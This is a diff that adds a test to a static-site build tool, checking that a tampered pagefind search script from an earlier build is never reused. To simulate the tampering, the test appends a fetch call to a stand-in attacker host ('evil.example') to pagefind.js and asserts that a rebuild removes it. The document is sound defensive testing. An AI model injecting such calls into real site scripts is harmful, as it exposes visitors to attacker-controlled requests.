@@ -79,6 +79,27 @@ def test_a_rebuild_keeps_the_search_index_only_while_its_pages_are_the_same(tmp_
     assert (output / "pagefind" / "pagefind-entry.json").stat().st_ino != first
 
 
+def test_an_index_the_board_did_not_build_is_never_reused(tmp_path):
+    """A previous site's folder may hold files a pull request added: its pagefind.js is not taken."""
+    output, cache = tmp_path / "site", tmp_path / "cache"
+
+    def build():
+        result = run_board("build", "--content", str(ROOT / "content"), "--output", str(output),
+                           env={"BOARD_CACHE": str(cache)})
+        assert result.returncode == 0, result.stderr
+
+    build()
+    script = output / "pagefind" / "pagefind.js"
+    script.write_text(script.read_text(encoding="utf-8") + "\nfetch('https://evil.example/');\n", encoding="utf-8")
+    build()
+    assert "evil.example" not in script.read_text(encoding="utf-8")
+    # With no record outside the project of what was built, nothing is reused either.
+    (cache / "search-index").unlink()
+    first = (output / "pagefind" / "pagefind-entry.json").stat().st_ino
+    build()
+    assert (output / "pagefind" / "pagefind-entry.json").stat().st_ino != first
+
+
 def test_a_cache_folder_inside_the_project_is_never_read_or_written(tmp_path):
     """A pull request could add files there: an entry planted for a hostile listing would skip its checks."""
     planted = ROOT / ".cache-planted-by-a-pull-request"
